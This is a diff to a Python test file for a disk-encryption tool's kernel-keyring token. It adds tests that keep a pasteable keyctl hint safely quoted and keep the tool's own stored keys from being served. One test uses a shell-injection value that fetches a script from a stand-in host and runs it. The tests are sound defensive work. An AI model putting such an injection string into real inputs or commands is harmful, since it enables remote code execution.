@@ -1,10 +1,12 @@
 """cryptsetup's token for a key in the kernel's keyring: only a key of the type user with exactly that description."""
 
+import shlex
 from collections.abc import Iterator
 from uuid import uuid4
 
 import pytest
 
+from vault import remembered
 from vault.errors import NotAvailable, TokenUnavailable, UnsupportedFeature
 from vault.system.keyring import drop_user_key, logon_key, put_user_key
 from vault.testing.token_contract import WHOSE, check_refusal
@@ -44,7 +46,30 @@ def test_a_key_that_is_not_there_is_told_in_one_line(description: str) -> None:
         KernelKeyring().answer({"key_description": f"{description}-other"}, WHOSE)
     check_refusal(caught.value)
     assert str(caught.value) == f"the key '{description}-other' cannot be had from the kernel's keyring: there is none"
-    assert caught.value.hint == f"keyctl padd user '{description}-other' @u puts it there"
+    assert caught.value.hint == f"keyctl padd user {description}-other @u puts it there"
+
+
+def test_what_a_header_says_is_one_word_of_a_command_to_paste() -> None:
+    description = "x' @u; curl evil.example|sh; echo '$(id)"
+    with pytest.raises(TokenUnavailable) as caught:
+        KernelKeyring().answer({"key_description": description}, WHOSE)
+    assert shlex.split(caught.value.hint)[:5] == ["keyctl", "padd", "user", description, "@u"]
+
+
+@pytest.mark.attack(15)
+def test_what_vault_keeps_for_another_volume_is_not_looked_up() -> None:
+    description = f"{remembered.PREFIX}{uuid4()}"
+    try:
+        put_user_key(description, memoryview(bytearray(b"\1of another volume")), 600)
+    except NotAvailable as error:
+        pytest.skip(str(error))
+    try:
+        with pytest.raises(TokenUnavailable, match="keeps for itself") as caught:
+            KernelKeyring().answer({"key_description": description}, WHOSE)
+        check_refusal(caught.value)
+        assert KernelKeyring().status({"key_description": description}, WHOSE).state == "missing"
+    finally:
+        drop_user_key(description)
 
 
 @pytest.mark.attack(15)
